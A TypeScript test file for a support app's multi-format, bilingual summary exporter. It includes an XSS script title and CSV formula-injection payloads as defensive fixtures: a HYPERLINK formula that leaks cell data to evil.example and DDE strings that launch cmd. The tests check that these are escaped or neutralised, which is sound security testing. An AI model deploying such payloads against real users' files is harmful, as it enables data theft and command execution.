import { parse } from 'csv-parse/sync';
import { neverLoggedList } from '../../../../../src-shared/consent/neverLogged';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  DESKTOP_DB_FILE,
  openDesktopDatabase,
  type DesktopDatabase,
} from '../../../../../src-main/core/db/desktopDatabase';
import { summarizeBuiltin, type SummaryInput } from '../../../../../src-main/core/insights/builtinSummarizer';
import { rewriteInLanguage, SummaryExporter } from '../../../../../src-main/core/insights/export/summaryExporter';
import { SummaryCache } from '../../../../../src-main/core/insights/summaryCache';
import { inlineReader } from '../../../../../src-main/core/insights/summaryReader';
import {
  exportFormatSchema,
  summaryExportJsonSchema,
  type ExportProgress,
  type ExportRequest,
} from '../../../../../src-shared/domain/summaryExport';
import { exportTexts } from '../../../../../src-shared/insights/summaryText';
import { docxText, pdfText } from '../../../../support/exportParsers';
import { memoryLogger } from '../../../../support/silentLogger';
import { tempDir } from '../../../../support/tempDir';

type Fixture = SummaryInput & { language: 'en' | 'de' };
const fixture = (name: string) => JSON.parse(readFileSync(`tests/fixtures/sessions/${name}.json`, 'utf8')) as Fixture;
const THIS_DEVICE = '999888777';

describe('exporting summaries (SI-10)', () => {
  let dir: ReturnType<typeof tempDir>;
  let db: DesktopDatabase;
  let cache: SummaryCache;
  let exporter: SummaryExporter;
  const logs = new Map<string, Fixture['log']>();
  const progress: ExportProgress[] = [];

  beforeEach(() => {
    dir = tempDir();
    db = openDesktopDatabase(join(dir.path, DESKTOP_DB_FILE));
    cache = new SummaryCache(db);
    progress.length = 0;
    exporter = new SummaryExporter({
      reader: inlineReader(cache),
      dir: join(dir.path, 'exports'),
      regenerate: (summary, language) =>
        rewriteInLanguage(summary, logs.get(summary.requestId) ?? [], THIS_DEVICE, language),
      progress: (update) => progress.push(update),
      log: memoryLogger().log,
    });
  });
  afterEach(() => {
    exporter.close();
    db.close();
    dir.cleanup();
  });

  /** A printer session in English, a VPN session in German (its log kept), and an edited one with markup in it. */
  function threeSummaries() {
    const printer = fixture('printer-en');
    const vpn = fixture('vpn-de');
    logs.set('request-vpn', vpn.log);
    const a = cache.add('request-printer', 'acme', summarizeBuiltin(printer, 'en'), new Date('2026-11-20T09:00:00Z'));
    const b = cache.add('request-vpn', 'acme', summarizeBuiltin(vpn, 'de'), new Date('2026-11-20T10:00:00Z'));
    const outlook = summarizeBuiltin(fixture('outlook-en'), 'en');
    const c = cache.add('request-outlook', 'acme', outlook, new Date('2026-11-20T11:00:00Z'));
    cache.update(
      c.id,
      { ...outlook, title: 'Outlook <script>alert(1)</script> & “quotes”', ticket: 'INC0012345' },
      new Date(),
      'Ada',
    );
    return { printer: a, vpn: b, edited: cache.get(c.id)! };
  }

  async function run(request: ExportRequest): Promise<{ content: Buffer; done: ExportProgress }> {
    const exportId = exporter.start(request);
    await expect.poll(() => progress.find((p) => p.exportId === exportId && p.state !== 'running')?.state).toBe('done');
    const done = progress.find((p) => p.exportId === exportId && p.state === 'done')!;
    const parts: Buffer[] = [];
    let offset: number | null = 0;
    while (offset !== null) {
      const chunk = await exporter.read(exportId, offset);
      parts.push(chunk.data);
      offset = chunk.next;
    }
    return { content: Buffer.concat(parts), done };
  }

  it('writes every format in English and German; files parse and read in the chosen language', async () => {
    const { printer, vpn, edited } = threeSummaries();
    const ids = [printer.id, vpn.id, edited.id];
    const english = { documentLabel: 'Issue types', date: 'November 20, 2026', rewritten: 'Network / VPN' };
    const german = { documentLabel: 'Problemarten', date: '20. November 2026', rewritten: 'Netzwerk / VPN' };

    for (const language of ['en', 'de'] as const) {
      const expected = language === 'en' ? english : german;
      for (const format of exportFormatSchema.options) {
        const { content, done } = await run({ ids, format, language });
        expect(done).toMatchObject({ total: 3, done: 3, bytes: content.length });
        expect(done.fileName).toMatch(
          new RegExp(`^session-insights-\\d{4}-\\d{2}-\\d{2}\\.${done.fileName!.split('.').pop()}$`),
        );
        let text: string;
        if (format === 'pdf') {
          const parsed = await pdfText(content);
          expect(parsed.language).toBe(language);
          text = parsed.text;
        } else if (format === 'docx') {
          const parsed = await docxText(content);
          expect(parsed.language).toBe(language === 'de' ? 'de-DE' : 'en-US');
          text = parsed.text;
        } else if (format === 'json') {
          const parsed = summaryExportJsonSchema.parse(JSON.parse(content.toString('utf8')));
          expect(parsed.language).toBe(language);
          expect(parsed.summaries.map((summary) => summary.id)).toEqual(ids);
          expect(parsed.summaries[0]!.issueTypes[0]!.label).toBe(language === 'en' ? 'Printing' : 'Drucken');
          text = JSON.stringify(parsed);
        } else if (format === 'csv') {
          const rows = parse(content, { bom: true, delimiter: language === 'de' ? ';' : ',' }) as string[][];
          expect(rows).toHaveLength(4);
          expect(rows[0]).toContain(expected.documentLabel);
          expect(rows[3]![1]).toBe('Outlook <script>alert(1)</script> & “quotes”');
          // Numbers as the region writes them, with their unit in the heading: the Outlook session lasted 9.5 minutes.
          expect(rows[0]![3]).toBe(language === 'de' ? 'Dauer (Min.)' : 'Duration (min)');
          expect(rows[3]![3]).toBe(language === 'de' ? '9,5' : '9.5');
          // The ticket a summary names has its own column, in both languages.
          const ticket = rows[0]!.indexOf('Ticket');
          expect(ticket).toBeGreaterThan(0);
          expect(rows.slice(1).map((row) => row[ticket])).toEqual(['', '', 'INC0012345']);
          text = rows.flat().join('\n');
        } else if (format === 'html') {
          text = content.toString('utf8');
          expect(text).toContain(`<html lang="${language}">`);
          expect(text).not.toContain('<script>alert(1)</script>');
          expect(text).toContain('Outlook &lt;script&gt;alert(1)&lt;/script&gt; &amp; “quotes”');
        } else {
          text = content.toString('utf8');
          expect(text).toContain('## Outlook \\<script\\>alert\\(1\\)\\</script\\> & “quotes”');
        }
        const plain = text.replace(/\\/g, '');
        // JSON keeps its keys stable (the schema); everything else labels in the chosen language.
        if (format !== 'json') expect(plain, `${format} ${language}`).toContain(expected.documentLabel);
        // Every document says what the summaries could never contain, in the words of the consent pop-up.
        if (format !== 'json' && format !== 'csv') {
          const never = `${language === 'en' ? 'Never logged' : 'Nie protokolliert'}: ${neverLoggedList(language)}.`;
          expect(plain.replace(/\s+/g, ' '), `${format} ${language}`).toContain(never);
        }
        expect(plain, `${format} ${language}`).toContain(expected.date);
        // The German VPN session is written anew in English from its log, and the other way round for nothing else.
        expect(plain, `${format} ${language}`).toContain(expected.rewritten);
        if (language === 'de') {
          // The English summaries without a log here go out as written, with a note.
          expect(plain, `${format} ${language}`).toContain('Auf Englisch verfasst; unverändert exportiert.');
        } else {
          expect(plain, `${format} ${language}`).not.toContain('exported as written');
        }
      }
    }
  });

  it('a CSV cell never starts a spreadsheet formula; the reader still sees the whole text', async () => {
    const base = summarizeBuiltin(fixture('printer-en'), 'en');
    const hostile = {
      title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
      problem: '+cmd|" /C calc"!A0',
      outcome: '-2+3+cmd|" /C calc"!A0',
      note: '@SUM(1+1)*cmd|" /C calc"!A0',
      applications: ['\t=1+1', 'Word'],
      actionsTaken: ['\uFF1DHYPERLINK("https://evil.example")', 'restarted the spooler'],
      followUps: ['\r=2+2'],
    };
    const summary = cache.add('request-formulas', 'acme', { ...base, ...hostile });
    for (const language of ['en', 'de'] as const) {
      const { content } = await run({ ids: [summary.id], format: 'csv', language });
      const [header, row] = parse(content, { bom: true, delimiter: language === 'de' ? ';' : ',' }) as string[][];
      const { labels } = exportTexts(language);
      const cell = (label: string) => row![header!.indexOf(label)];
      // OWASP's advice: a leading apostrophe makes the cell text, and the text after it is unchanged.
      expect(cell(labels.title)).toBe(`'${hostile.title}`);
      expect(cell(labels.problem)).toBe(`'${hostile.problem}`);
      expect(cell(labels.outcome)).toBe(`'${hostile.outcome}`);
      // The German export adds its note that this English summary went out as written.
      const languageNote = language === 'de' ? ` ${exportTexts('de').languageNote('en')}` : '';
      expect(cell(labels.note)).toBe(`'${hostile.note}${languageNote}`);
      expect(cell(labels.applications)).toBe(`'${hostile.applications.join(', ')}`);
      expect(cell(labels.actions)).toBe(`'${hostile.actionsTaken.join('\n')}`);
      expect(cell(labels.followUps)).toBe(`'${hostile.followUps.join('\n')}`);
      for (const value of row!) expect(value, language).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
  });

  it('exports what a filter matches, names a single summary’s file after it, and is cancellable', async () => {
    const { printer } = threeSummaries();
    const one = await run({ ids: [printer.id], format: 'markdown', language: 'en' });
    expect(one.done.fileName).toMatch(/^printing-.*-\d{4}-\d{2}-\d{2}\.md$/);
    const filtered = await run({ filter: { issueTypes: ['network_vpn'] }, format: 'json', language: 'de' });
    expect(summaryExportJsonSchema.parse(JSON.parse(filtered.content.toString('utf8'))).summaries).toHaveLength(1);

    const base = summarizeBuiltin(fixture('slow-pc-en'), 'en');
    db.transaction(() => {
      for (let i = 0; i < 600; i++) cache.add(`bulk-${i}`, 'acme', { ...base, title: `Bulk ${i}` });
    })();
    const exportId = exporter.start({ filter: {}, format: 'pdf', language: 'en' });
    await expect.poll(() => progress.some((p) => p.exportId === exportId && p.done > 0)).toBe(true);
    exporter.cancel(exportId);
    await expect.poll(() => progress.at(-1)).toMatchObject({ exportId, state: 'cancelled' });
    const mine = progress.filter((p) => p.exportId === exportId);
    expect(mine.map((p) => p.done)).toEqual([...mine.map((p) => p.done)].sort((a, b) => a - b));
    expect(mine.at(-2)!.done).toBeLessThan(603);
    await expect(exporter.read(exportId, 0)).rejects.toMatchObject({ code: 'not_found' });
  });
});
